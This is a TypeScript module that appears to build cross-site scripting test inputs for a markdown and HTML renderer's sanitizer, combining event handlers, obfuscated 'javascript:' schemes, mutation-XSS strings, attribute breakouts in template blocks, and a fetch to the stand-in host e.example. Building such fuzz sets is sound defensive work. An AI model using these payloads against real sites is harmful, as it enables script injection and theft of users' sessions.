import { blocks } from '#api/blocks/index.ts';

/** Texts that try to bring scripts into pages. */

const PAYLOADS = ['alert(1)', 'fetch(`//e.example`)', 'location=1', 'x'];
const HANDLERS = ['onerror', 'onload', 'ONCLICK', 'onmouseover', 'onfocus', 'ontoggle', 'onbegin'];
/** Names of elements, harmful and not. */
export const NAMES =
  'img a svg math iframe object embed video audio body details input form button select textarea table style link meta base template noscript title xmp plaintext frameset marquee isindex x-y'.split(
    ' ',
  );
const SCHEMES = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:'],
  ...['java&#115;cript:', 'javascript&colon;', 'javascript&#58;', 'javascript&#x3a;', 'java&Tab;script:'],
  ...['java&NewLine;script:', '&#106;avascript:', '&#x6A&#x61;vascript:', 'vbscript:', 'data:text/html,'],
  ...[
    'data:image/svg+xml,',
    'blob:',
    'file:',
    'view-source:javascript:',
    'feed:javascript:',
    'javascript\0:',
  ],
];
const URL_PLACES = [
  ...['[x](U)', '[x](<U>)', '![x](U)', '[x][r]\n\n[r]: U', '![x][r]\n\n[r]: <U>', '<U>'],
  ...['<a href="U">x</a>', "<a href='U'>x</a>", '<a href=U>x</a>', '<img src="U">', '<form action="U"><b>'],
  ...['<picture><source srcset="U" media="(prefers-color-scheme: dark)"><img src="/a"></picture>'],
  ...['<svg><a xlink:href="U"><text>x', '<math href="U">x', '<a\nhref\n=\n"U">x', '<area href="U">'],
  ...['{% content-ref url="U" %}\n[x](U)\n{% endcontent-ref %}', '$$\\href{U}{x}$$', '$$\\url{U}$$'],
];
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=P>">',
  '<svg></p><style><a id="</style><img src=1 onerror=P>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=P&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=P>',
  '<svg><foreignObject><iframe srcdoc="<script>P</script>">',
  '<math><annotation-xml encoding="text/html"><script>P</script>',
  '<template><script>P</script></template>',
  '<table><td><b><tr><img src=x onerror=P><caption><b>',
  '<select><option><style></option></select><img src=x onerror=P></style>',
  '<textarea></textarea><img src=x onerror=P></textarea>',
  '<title><img src=x onerror=P></title>',
  '<xmp></xmp><img src=x onerror=P></xmp>',
  '<!--><img src=x onerror=P>-->',
  '<!--a--!><img src=x onerror=P>-->',
  '<![CDATA[><img src=x onerror=P>]]>',
  '<?xml version="1.0"?><img src=x onerror=P>',
  '<p title="x" title2=\'"><img src=x onerror=P>\'>',
  '<img src="x` `<script>P</script>"` `>',
  '<scr<script>ipt>P</scr</script>ipt>',
  '<a href="/x" title="&quot; onclick=P x=&quot;">y</a>',
  '![x" onerror="P](/y "a\\" onerror=\\"P")',
  '[x](/y "\\"><script>P</script>")',
  '```"><script>P</script>\nx\n```',
  '```js title="\\"><script>P</script>"\n</code></pre><script>P</script>\n```',
  '{% code title="<script>P</script>" %}\n```js\nx\n```\n{% endcode %}',
  '{% tabs %}\n{% tab title="<img src=x onerror=P>" %}\nx\n{% endtab %}\n{% endtabs %}',
  '{% hint style="info\' onclick=P" %}\nx\n{% endhint %}',
  '$$\\text{<img src=x onerror=P>}$$',
  '$$\\style{color:red" onclick="P}{x}$$ $$\\class{x" onclick="P}{y}$$ $$\\id{z}{x}$$',
  '# <img src=x onerror=P> `<script>P</script>` &lt;script&gt;P&lt;/script&gt;',
  '| <script>P</script> |\n| - |\n| <img src=x onerror=P> `</td><script>P</script>` |',
  '<b\n\n<script>P</script>\n\n>',
  'a <b *c <i d* e</b> <script>P</script> f</i>',
  '<a href="/x">a [b](/y) <a href="/z" onclick=P>c</a></a>',
];
const AROUND = [
  'C',
  '- C',
  '> C',
  '> [!NOTE]\n> C',
  '<details>\n<summary>s</summary>\n\nC\n\n</details>',
  '<table><tr><td>\n\nC\n\n',
];

const HOSTILE_VALUES = [
  ...['"><script>P</script>', "'><img src=x onerror=P>", '" onclick="P', '</a></div><script>P</script>'],
  ...['javascript:P', 'data:text/html,<script>P</script>', '{% hint %}', '&quot;><script>P</script>'],
];

/** Every attribute of every block with values that try to leave it. */
function hostileBlocks(): string[] {
  return blocks.flatMap(({ name, parent, attributes, end }) =>
    Object.keys(attributes).flatMap((attribute) =>
      HOSTILE_VALUES.flatMap((value, at) => {
        const payload = value.replaceAll('P', () => PAYLOADS[at % 4] ?? 'x');
        return [`"${payload.replaceAll('"', '&quot;')}"`, `'${payload.replaceAll("'", '&#39;')}'`].map(
          (written) => {
            const close = end === 'required' ? `\n<b>x\n{% end${name} %}` : '';
            const block = `{% ${name} ${attribute}=${written} %}${close}`;
            return parent === undefined ? block : `{% ${parent} %}\n${block}\n{% end${parent} %}`;
          },
        );
      }),
    ),
  );
}

/** Attacks of every kind, each also in lists, quotes, callouts, expandables and tables. */
export function hostileTexts(): string[] {
  const attacks = [
    ...NAMES.flatMap((name) => [
      ...HANDLERS.map((handler, at) => `<${name} ${handler}="${PAYLOADS[at % 4]}">x</${name}>`),
      `<${name}/onload=alert(1)//`,
      `<${name} id=x name=y class="z" style="background:url(javascript:alert(1))" srcdoc="<script>alert(1)</script>">`,
      `a <${name.toUpperCase()} SRC=x ONERROR=alert(1)> b </${name}>`,
    ]),
    ...SCHEMES.flatMap((scheme) =>
      URL_PLACES.map((place) => place.replaceAll('U', () => `${scheme}alert(1)`)),
    ),
    ...hostileBlocks(),
    ...MUTATIONS.flatMap((mutation) => PAYLOADS.map((payload) => mutation.replaceAll('P', () => payload))),
  ];
  return attacks.flatMap((attack, at) => [
    attack,
    (AROUND[at % AROUND.length] ?? 'C').replace('C', () => attack.replaceAll('\n', '\n  ')),
  ]);
}
